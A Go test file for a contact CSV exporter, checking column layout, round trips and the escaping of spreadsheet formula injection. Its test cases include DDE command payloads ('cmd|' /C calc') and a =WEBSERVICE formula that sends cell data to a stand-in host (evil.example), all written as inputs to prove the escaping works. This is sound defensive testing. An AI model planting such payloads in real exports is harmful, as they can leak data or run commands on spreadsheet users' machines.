package contactcsv

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"
)

func TestWriteLayout(t *testing.T) {
	var b bytes.Buffer
	err := Write(&b, []Contact{
		{FirstName: "Hélène", LastName: "Martin", Email: "hm@example.fr", Company: "Société Générale",
			Job: "RH", PhoneNumber: "+33 1 42 14 20 00", MobileNumber: "+33 6 12 34 56 78",
			Notes: "ligne 1\nligne 2, avec virgule", Civility: Female},
		{FirstName: "Éric", LastName: "Lefèvre", Civility: Male},
		{FirstName: "Sam", LastName: "Doe"},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := "\uFEFF" +
		"First Name,Last Name,Notes,E-mail Address,Business Phone,Mobile Phone,Company,Job Title,Gender\r\n" +
		"Hélène,Martin,\"ligne 1\r\nligne 2, avec virgule\",hm@example.fr,+33 1 42 14 20 00,+33 6 12 34 56 78,Société Générale,RH,f\r\n" +
		"Éric,Lefèvre,,,,,,,m\r\n" +
		"Sam,Doe,,,,,,,m\r\n"
	if got := b.String(); got != want {
		t.Errorf("got\n%q\nwant\n%q", got, want)
	}
}

func TestEscapeFormula(t *testing.T) {
	roundTrip(t, escapeFormula, []escapeCase{
		{"", ""},
		{"Dupont", "Dupont"},
		{"=HYPERLINK(\"http://evil.example\",\"clic\")", "'=HYPERLINK(\"http://evil.example\",\"clic\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\tx", "'\tx"},
		{"\r=1", "'\r'=1"},
		{"-", "'-"},
		{"+", "'+"},
		{"-12.5", "'-12.5"},
		// Apostrophes already there: one more, so Parse gives the value back.
		{"'=x", "''=x"},
		{"'+33 6", "''+33 6"},
		{"'t Hooft", "'t Hooft"},
		{"O'Neil", "O'Neil"},
		{"'", "'"},
		// After any separator a spreadsheet may split on, too.
		{"note;=1+1", "note;'=1+1"},
		{"a,=b", "a,'=b"},
		{"a\t@b", "a\t'@b"},
		{"ligne 1\n-cmd|' /C calc'!A0", "ligne 1\n'-cmd|' /C calc'!A0"},
		{"=a;=b", "'=a;'=b"},
		{";=", ";'="},
		{"x; =1", "x;' =1"},
		{"x;\"=1+1\"", "x;'\"=1+1\""},
		{"x;'=1", "x;''=1"},
		{"x;'abc", "x;'abc"},
		{"Tél. ; +33 6 12 34 56 78", "Tél. ;' +33 6 12 34 56 78"},
		{"a;", "a;"},
		{"a,,b", "a,,b"},
	})
}

// Number-like phone numbers stay as they are: they must stay readable.
func TestEscapePhone(t *testing.T) {
	roundTrip(t, escapePhone, []escapeCase{
		{"+33 6 12 34 56 78", "+33 6 12 34 56 78"},
		{"+1 (514) 555-0199", "+1 (514) 555-0199"},
		{"-12.5", "-12.5"},
		{"+33 6 12 34 56 78 poste 12", "'+33 6 12 34 56 78 poste 12"},
		{"'+33 6", "''+33 6"},
		{"01 23;+33 1", "01 23;'+33 1"},
		{"=1+1", "'=1+1"},
	})
}

// escapeCase is a text and what an escape function should make of it.
type escapeCase struct{ in, want string }

// roundTrip checks, for each case, that escape(in) is want, and that unescapeFormula gives in
// back.
func roundTrip(t *testing.T, escape func(string) string, cases []escapeCase) {
	t.Helper()
	for _, c := range cases {
		got := escape(c.in)
		if got != c.want {
			t.Errorf("escape(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := unescapeFormula(got); back != c.in {
			t.Errorf("unescapeFormula(%q) = %q, want %q", got, back, c.in)
		}
	}
}

// Every cell of the written file that a spreadsheet would evaluate is escaped.
func TestWriteEscapesFormulas(t *testing.T) {
	evil := "=WEBSERVICE(\"http://evil.example/?\"&A1)"
	var b bytes.Buffer
	err := Write(&b, []Contact{{
		FirstName: evil, LastName: "+SUM(1)", Notes: "-1+cmd|'/C calc'!A0", Email: "@x",
		PhoneNumber: "=1+1", MobileNumber: "+33 6 00 00 00 00", Company: evil, Job: evil,
	}})
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF")))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, cell := range recs[1] {
		if i == 5 { // the mobile number stays as it is
			if cell != "+33 6 00 00 00 00" {
				t.Errorf("mobile number written %q", cell)
			}
			continue
		}
		if cell != "" && strings.IndexByte(formulaStarts, cell[0]) >= 0 {
			t.Errorf("cell %d (%s) not escaped: %q", i, exportHeader[i], cell)
		}
	}
}

// Whatever separator a spreadsheet splits the file on — the comma it is written with, French
// Excel's semicolon, tabs, line breaks — and even when it ignores the quotes, no cell it makes
// starts a formula (number-like cells aside).
func TestWriteEscapesFormulasAfterEverySeparator(t *testing.T) {
	var b bytes.Buffer
	err := Write(&b, []Contact{{
		FirstName: "Jean;=1+1", LastName: "Dupont,@SUM(A1)", Notes: "note;=1+1\n=HYPERLINK(\"http://evil.example\")\tx\t+cmd",
		Email: "a@exemple.fr;-2+3", Company: "Acme; \"=1\"", Job: "chef\r=1", PhoneNumber: "01 23; +33 1 23", MobileNumber: "+33 6 00 00 00 00",
	}})
	if err != nil {
		t.Fatal(err)
	}
	file := strings.TrimPrefix(b.String(), "\uFEFF")
	for _, sep := range []string{",", ";", "\t"} {
		for _, line := range strings.FieldsFunc(file, func(r rune) bool { return r == '\n' || r == '\r' }) {
			for _, cell := range strings.Split(line, sep) {
				if shown := strings.TrimLeft(cell, leadIns); shown != "" && strings.IndexByte("=+-@", shown[0]) >= 0 && !numberLike(shown) {
					t.Errorf("split on %q: cell %q starts a formula", sep, cell)
				}
			}
		}
	}
}

func TestWriteParseRoundTrip(t *testing.T) {
	contacts := []Contact{
		{FirstName: "Hélène", LastName: "Martin", Email: "hm@example.fr", Company: "Société Générale",
			Job: "Chargée de recrutement", PhoneNumber: "+33 1 42 14 20 00", MobileNumber: "+33 6 12 34 56 78",
			Notes: "Rencontrée le 12/03 ; \"très\" sympa.\nÀ relancer, vite.", Civility: Female},
		{FirstName: "Sean", LastName: "O'Neil", Company: "Acme, Inc.", Civility: Male},
		{FirstName: "=cmd", LastName: "'=Evil", Job: "-chef-", Notes: "@home", Email: "+x@example.com",
			PhoneNumber: "-", MobileNumber: "06 12 34 56 78", Civility: Male},
		{LastName: "NOFIRSTNAME", Civility: Female},
		{FirstName: "Nolastname", Civility: Male},
		{FirstName: "Zoë", LastName: "Nguyễn", Notes: "emoji 🎉 et € et œ", Civility: Female},
		{FirstName: "Jean;=1+1", LastName: "A,'=B", Notes: "note;=1+1\n@x\ty; \"=2\"", Job: "x;'y", Civility: Male},
	}
	var b bytes.Buffer
	if err := Write(&b, contacts); err != nil {
		t.Fatal(err)
	}
	got, err := Parse(&b, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	assertContacts(t, got, contacts)
}

// The spec writes "m" for anything but female, so a contact without civility comes back male.
func TestWriteParseRoundTripUnknownCivility(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, []Contact{{FirstName: "Alex", LastName: "Doe"}}); err != nil {
		t.Fatal(err)
	}
	got, err := Parse(&b, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	want := []Contact{{FirstName: "Alex", LastName: "Doe", Civility: Male}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %+v, want %+v", got, want)
	}
}

func TestWriteEmpty(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, nil); err != nil {
		t.Fatal(err)
	}
	got, err := Parse(&b, Limits{})
	if err != nil || len(got) != 0 {
		t.Errorf("Parse(Write(nil)) = %v, %v", got, err)
	}
}
